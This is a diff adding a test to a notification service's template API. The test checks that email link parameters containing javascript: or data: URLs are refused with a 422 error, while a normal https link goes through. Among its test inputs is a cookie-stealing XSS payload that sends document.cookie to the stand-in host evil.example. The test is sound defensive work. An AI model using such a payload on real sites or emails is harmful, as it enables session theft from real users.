@@ -154,6 +154,26 @@ describe('templates over HTTP', () => {
     assert.equal(await h.herald.events.headPosition(), head, 'nothing written');
   });
 
+  it('a parameter that would put a script URL into an email\'s link is a 422 naming it, before anything is written; the same link to a page is tracked', async () => {
+    const reset = { defaultLocale: 'en', locales: { en: { email: { subject: 'Reset', html: '<p><a href="{{link.url}}">Choose a new password</a></p>' } } } };
+    assert.equal((await call('POST', '/v1/templates/reset-link', reset)).statusCode, 201);
+    await call('PUT', '/v1/users/t-link', { email: 'link@example.com' });
+    const send = (url: string) => ({ to: [{ userId: 't-link' }], category: 'c', template: { id: 'reset-link', params: { link: { url } } } });
+    const head = await h.herald.events.headPosition();
+    const res = await call('POST', '/v1/notifications', send('javascript:fetch(`//evil.example/${document.cookie}`)'));
+    assert.equal(res.statusCode, 422, res.body);
+    const problem = res.json<ProblemBody & { errors: { path: string }[] }>();
+    assert.equal(problem.code, 'template_parameter_invalid');
+    assert.equal(problem.errors[0]!.path, '/template/params/link/url');
+    assert.match(problem.detail!, /parameter "link\.url" puts a javascript: URL/);
+    const batch = await call('POST', '/v1/notifications/batch', { requests: [send('https://shop.example/reset?t=1'), send('data:text/html,<script>alert(1)</script>')] });
+    assert.equal(batch.statusCode, 207, batch.body);
+    const [sent, refused] = batch.json<{ results: { status: number; error?: { errors: { path: string }[] } }[] }>().results;
+    assert.equal(sent!.status, 202);
+    assert.deepEqual([refused!.status, refused!.error!.errors[0]!.path], [422, '/requests/1/template/params/link/url']);
+    assert.equal(await h.herald.events.headPosition(), head + 1, 'only the good item written');
+  });
+
   it('reading needs the read scope, writing needs admin', async () => {
     const reader = await createApp(h, ['read']);
     const sender = await createApp(h, ['send', 'read']);
